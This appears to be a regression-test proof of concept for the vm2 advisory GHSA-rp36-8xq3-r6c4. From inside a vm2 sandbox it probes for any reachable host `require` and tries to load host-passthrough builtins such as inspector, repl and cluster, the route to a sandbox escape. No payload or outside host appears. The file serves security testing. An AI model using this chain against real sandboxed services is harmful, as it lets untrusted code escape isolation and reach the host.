// Source: vm2 advisory GHSA-rp36-8xq3-r6c4 (test/ghsa/GHSA-rp36-8xq3-r6c4/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): more host-passthrough builtins beyond GHSA-947f (inspector, trace_events, wasi, repl, cluster, node:test).
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: inspector, trace_events, wasi, repl, cluster.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    for (const name of ['inspector', 'trace_events', 'wasi', 'repl', 'cluster', 'node:test']) { try { const m = req(name); __wr.use(m, name); } catch (e) {} }
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
